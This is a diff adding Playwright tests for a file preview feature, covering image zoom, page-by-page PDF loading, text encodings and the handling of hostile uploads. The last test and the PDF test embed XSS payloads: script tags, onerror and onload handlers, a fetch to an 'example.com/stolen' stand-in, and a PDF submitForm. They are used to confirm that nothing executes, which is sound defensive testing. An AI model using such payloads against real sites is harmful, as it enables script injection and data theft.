@@ -1,0 +1,183 @@
+import type { Page } from '@playwright/test';
+import { pdf, png, textFile } from '../../../dev/seed/made-files.ts';
+import { atRest, violations } from '../acts/axe.ts';
+import { expect, test } from '../acts/browser.ts';
+import { pane, shared, show } from '../acts/preview-acts.ts';
+
+const MIB = 1024 * 1024;
+const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
+
+/** What is asked of the preview call, by its `Range`. */
+function rangesAsked(page: Page): (string | undefined)[] {
+  const ranges: (string | undefined)[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('/api/preview/')) ranges.push(request.headers().range);
+  });
+  return ranges;
+}
+
+test('a picture is zoomed by buttons, keys, double click and wheel, and its controls hide', async ({
+  page,
+  newVisitor,
+}) => {
+  const visitor = await shared(page, newVisitor, [png('photo.png', 900, 700), textFile('notes.txt', 'hello')]);
+  await show(visitor, 'photo.png');
+  const picture = visitor.getByRole('img', { name: 'photo.png' });
+  await expect(picture).toBeVisible();
+  const level = visitor.getByRole('status', { name: 'Zoom level' });
+  await expect(level).toHaveText('100%');
+  expect(await violations(visitor)).toEqual([]);
+
+  // The controls have hidden if looking took long; the mouse on its way to them brings them back.
+  await picture.hover();
+  await visitor.getByRole('button', { name: 'Zoom in' }).click();
+  await expect(level).toHaveText('150%');
+  for (let presses = 0; presses < 4; presses++) await visitor.getByRole('button', { name: 'Zoom in' }).click();
+  await expect(level).toHaveText('500%');
+  await visitor.keyboard.press('0');
+  await expect(level).toHaveText('100%');
+  await visitor.keyboard.press('-');
+  await visitor.keyboard.press('-');
+  await expect(level).toHaveText('50%');
+  await visitor.keyboard.press('0');
+
+  await picture.dblclick();
+  await expect(level).toHaveText('200%');
+  await atRest(visitor);
+  const before = await picture.boundingBox();
+  const { x = 0, y = 0, width = 0, height = 0 } = (await pane(visitor, 'photo.png').boundingBox()) ?? {};
+  await visitor.mouse.move(x + width / 2, y + height / 2);
+  await visitor.mouse.down();
+  await visitor.mouse.move(x + width / 2 + 40, y + height / 2, { steps: 3 });
+  await visitor.mouse.up();
+  await expect.poll(async () => ((await picture.boundingBox())?.x ?? 0) - (before?.x ?? 0)).toBeGreaterThan(30);
+  await visitor.keyboard.press('ArrowRight');
+  await expect(level).toHaveText('200%');
+  await visitor.mouse.wheel(0, -100);
+  await expect(level).not.toHaveText('200%');
+  await picture.dblclick();
+  await expect(level).toHaveText('100%');
+
+  await pane(visitor, 'photo.png').focus();
+  const controls = visitor.getByRole('toolbar', { name: 'Zoom' });
+  await expect(controls).toHaveCSS('opacity', '0', { timeout: 6000 });
+  await visitor.mouse.move(x + width / 2 + 10, y + height / 2);
+  await expect(controls).toHaveCSS('opacity', '1');
+});
+
+test('a PDF of many pages is read page by page, and nothing in it acts', async ({ page, newVisitor }) => {
+  const dialogs: string[] = [];
+  const paper = pdf('paper.pdf', 20, MIB / 2, "app.alert\\('hacked'\\); this.submitForm\\('https://example.com/x'\\)");
+  const visitor = await shared(page, newVisitor, [paper]);
+  visitor.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    return dialog.dismiss();
+  });
+  const ranges = rangesAsked(visitor);
+  const answers: Promise<number>[] = [];
+  visitor.on('requestfinished', (request) => {
+    if (request.url().includes('/api/preview/')) answers.push(request.sizes().then((sizes) => sizes.responseBodySize));
+  });
+  await show(visitor, 'paper.pdf');
+  await expect(visitor.getByText('This is page 1', { exact: true })).toBeAttached();
+  await expect(visitor.getByText('Page 1 of 20')).toBeVisible();
+  await expect(visitor.getByText('This is page 20')).toHaveCount(0);
+  expect(ranges.every((range) => /^bytes=\d+-\d+$/.test(range ?? ''))).toBe(true);
+  const loaded = (await Promise.all(answers)).reduce((sum, size) => sum + size, 0);
+  expect(loaded).toBeLessThan(3 * MIB);
+  expect(await violations(visitor)).toEqual([]);
+
+  const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
+  await pages.focus();
+  await visitor.keyboard.press('End');
+  await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 20_000 });
+  await expect(visitor.getByText('Page 20 of 20')).toBeVisible();
+  expect(await visitor.getByRole('region', { name: /^Page \d/ }).count()).toBeLessThan(5);
+  expect(dialogs).toEqual([]);
+});
+
+test('a long text is shown by the megabyte, in whatever encoding, and its letters are whole', async ({
+  page,
+  newVisitor,
+}) => {
+  const euros = `${'€'.repeat(60)}\n`.repeat(15_000);
+  const visitor = await shared(page, newVisitor, [
+    textFile('long.txt', `first line\n${euros}last line`),
+    { ...textFile('latin.txt', ''), buffer: Buffer.from('Grüße aus Köln, schöne Füße\n'.repeat(20), 'latin1') },
+    { ...textFile('program.txt', ''), buffer: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 0]) },
+    textFile('data.json', '{"id":12345678901234567890,"tags":["a"]}', 'application/json'),
+    textFile('code.ts', 'const answer: number = 42; // why\n'),
+    textFile('mystery.xyz', 'only the server knows', 'application/json'),
+  ]);
+  const ranges = rangesAsked(visitor);
+  await show(visitor, 'long.txt');
+  const text = visitor.getByRole('region', { name: 'Text of long.txt' });
+  await expect(text).toContainText('first line');
+  await expect(text).not.toContainText('last line');
+  expect(ranges).toEqual([`bytes=0-${MIB - 1}`]);
+  await visitor.getByRole('button', { name: 'Show more' }).click();
+  await expect(visitor.getByText(/of 2.6 MB/)).toContainText('2 MB');
+  await visitor.getByRole('button', { name: 'Show more' }).click();
+  await expect(text).toContainText('last line');
+  await expect(visitor.getByRole('button', { name: 'Show more' })).toHaveCount(0);
+  await expect(visitor.getByText('15,002 lines')).toBeVisible();
+  await text.evaluate((element) => element.scrollTo(0, element.scrollHeight));
+  await expect(text.locator('[data-number="15002"]')).toHaveText('last line');
+  expect(await text.evaluate((element) => element.textContent.includes('\uFFFD'))).toBe(false);
+  expect(await violations(visitor)).toEqual([]);
+
+  await show(visitor, 'latin.txt');
+  await expect(visitor.getByRole('region', { name: 'Text of latin.txt' })).toContainText('Grüße aus Köln, schöne Füße');
+  await show(visitor, 'program.txt');
+  await expect(visitor.getByText('This kind of file cannot be previewed.')).toBeVisible();
+  await show(visitor, 'data.json');
+  const json = visitor.getByRole('region', { name: 'Text of data.json' });
+  await expect(json).toContainText('"id": 12345678901234567890');
+  await visitor.getByRole('button', { name: 'As sent' }).click();
+  await expect(json).toContainText('{"id":12345678901234567890,"tags":["a"]}');
+  await show(visitor, 'code.ts');
+  await expect(visitor.getByText('// why', { exact: true })).toHaveClass(/italic/);
+  expect(await violations(visitor)).toEqual([]);
+
+  ranges.length = 0;
+  await show(visitor, 'mystery.xyz');
+  await expect(visitor.getByText('only the server knows')).toBeVisible();
+  expect(ranges[0]).toBe('bytes=0-0');
+});
+
+test('what is made to do harm does nothing but show itself', async ({ page, newVisitor }) => {
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="${HACK}"><script>${HACK}</script><rect width="200" height="200" fill="teal"/><image href="https://example.com/pixel.png"/></svg>`;
+  const html = `<img src=x onerror="${HACK}"><script>${HACK}</script>`;
+  const markup = '<img src=x onerror=alert(1)>.txt';
+  const visitor = await shared(page, newVisitor, [
+    textFile('drawing.svg', svg, 'image/svg+xml'),
+    textFile('page.html', html, 'text/html'),
+    textFile('disguised.png', html, 'image/png'),
+    textFile(markup, 'harmless', 'text/plain'),
+    textFile('no picture.png', 'nothing', 'text/html'),
+    { ...textFile('broken.pdf', html, 'application/pdf') },
+    { ...textFile('broken.mp4', html, 'video/mp4') },
+  ]);
+  const dialogs: string[] = [];
+  visitor.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    return dialog.dismiss();
+  });
+  await show(visitor, 'drawing.svg');
+  await expect(visitor.getByRole('img', { name: 'drawing.svg' })).toHaveJSProperty('naturalWidth', 200);
+  await show(visitor, 'page.html');
+  await expect(visitor.getByText(html)).toBeVisible();
+  await show(visitor, 'disguised.png');
+  await expect(visitor.getByText('Failed to load image')).toBeVisible();
+  expect(await violations(visitor)).toEqual([]);
+  await show(visitor, markup);
+  await expect(visitor.getByRole('region', { name: `Text of ${markup}` })).toContainText('harmless');
+  await show(visitor, 'broken.pdf');
+  await expect(visitor.getByText('This PDF could not be read. It may be damaged.')).toBeVisible();
+  await show(visitor, 'broken.mp4');
+  await expect(visitor.getByText('Your browser cannot play this video.')).toBeVisible();
+  // What would act has acted when there is nothing left to do.
+  await visitor.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
+  expect(await visitor.evaluate(() => '__hacked' in window)).toBe(false);
+  expect(dialogs).toEqual([]);
+});
